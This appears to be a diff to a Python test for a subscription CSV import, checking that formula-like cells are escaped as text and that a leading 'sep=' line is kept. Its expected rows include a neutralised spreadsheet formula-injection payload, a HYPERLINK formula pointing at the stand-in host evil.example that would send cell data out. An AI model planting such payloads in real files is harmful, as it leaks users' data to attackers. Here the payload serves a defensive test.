@@ -882,7 +882,8 @@ def test_the_import_results_csv_opens_cells_like_formulas_as_text(browser, alice
     page = browser.post("/subscriptions/import", data={"file": upload},
                         content_type="multipart/form-data").get_data(as_text=True)
     results = unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]+)" download', page).group(1))
-    header, *lines = csv.reader(io.StringIO(results))
+    sep_line, header, *lines = csv.reader(io.StringIO(results))
+    assert sep_line == ["sep="] + [""]  # the file's own `sep=,` line, first as it was
     assert header == ["'=Owner", "LinkedIn URL", "Note", "row", "result", "subscription_id", "code", "reason"]
     assert [line[:5] for line in lines] == [
         ["\'=HYPERLINK(\"http://evil.example/?\"&A1)", "https://www.linkedin.com/in/jane", "'+1", "1", "created"],
